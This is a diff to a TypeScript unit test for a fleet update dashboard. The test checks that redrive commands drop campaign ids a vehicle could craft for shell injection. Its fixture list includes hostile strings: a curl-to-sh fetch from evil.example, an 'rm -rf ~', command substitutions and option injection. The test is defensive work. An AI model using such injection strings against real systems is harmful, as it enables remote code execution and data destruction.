@@ -2,6 +2,7 @@ import { test } from "uvu";
 import * as assert from "uvu/assert";
 import { QUEUE_ROLE } from "../../../../contracts/dashboard-documents.js";
 import { alarmChanges, alarmsChangedSince, deadLetterCommand, shapeNeedsAHand } from "../../../../functions/dashboard-publisher/needs-a-hand-view.js";
+import { otaReportSchema } from "../../../../telemetry/schema.js";
 import { compositeAlarm, deadLetterMessage, metricAlarm, needsAHandInput } from "./support/factories.js";
 
 const now = new Date("2026-11-26T18:00:00.000Z");
@@ -29,6 +30,20 @@ test("says why each dead letter is there and which command deals with it", () =>
   assert.is(update!.command, "fleetota redrive --campaign c-20261126T140000-1a2b3c4d");
   assert.is(deadLetterCommand(QUEUE_ROLE.UpdateDeadLetter, { errorKind: "invalid-json" }), "fleetota redrive --dry-run (malformed: a redrive cannot fix it; look, then fix the sender)");
   assert.is(shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.UpdateDeadLetter, visible: 1, messages: [deadLetterMessage("not json")] }] }, undefined, now).deadLetters.items[0]!.kind, "invalid-json");
+});
+
+test("never offers a command with a campaign id the shell would read as more (a vehicle's report names it)", () => {
+  // A vehicle writes its status report's campaign id itself, and the telemetry schema takes any printable text.
+  const hostile = ["c-1; curl -s https://evil.example/x | sh", "c-1 && rm -rf ~", "$(id)", "`id`", "c-1|sh", "--queue telemetry", "c-1 #", "c-1'", '"c-1"', "c-1\u202e"];
+  const ota = (campaignId: string) => ({ jobId: `${campaignId}:1HGCM82633A004352`, campaignId, attempt: 1, sequence: 1, status: "FAILED", targetVersion: "2.5.0" });
+  for (const campaignId of hostile) assert.ok(otaReportSchema.safeParse(ota(campaignId)).success, `the processor takes ${campaignId}`);
+  const report = (campaignId: string) => ({ kind: "status-report", idempotencyKey: `${campaignId}:1HGCM82633A004352#1#1`, vin: "1HGCM82633A004352", campaignId, jobId: `${campaignId}:1HGCM82633A004352`, attempt: 1, sequence: 1, status: "FAILED", firmwareVersion: "2.4.0", reportedAt: now.toISOString() });
+  const commands = (campaignId: string) =>
+    shapeNeedsAHand({ ...needsAHandInput(now, alarms), deadLetters: [{ queue: QUEUE_ROLE.UpdateDeadLetter, visible: 1, messages: [deadLetterMessage(report(campaignId))] }] }, undefined, now).deadLetters.items.map((item) => item.command);
+
+  for (const campaignId of hostile) assert.equal(commands(campaignId), ["fleetota redrive"], campaignId);
+  assert.equal(commands("c-20261126T140000-1a2b3c4d"), ["fleetota redrive --campaign c-20261126T140000-1a2b3c4d"]);
+  assert.equal(commands("c-1"), ["fleetota redrive --campaign c-1"]);
 });
 
 test("keeps every part it could read and names the one it could not", () => {
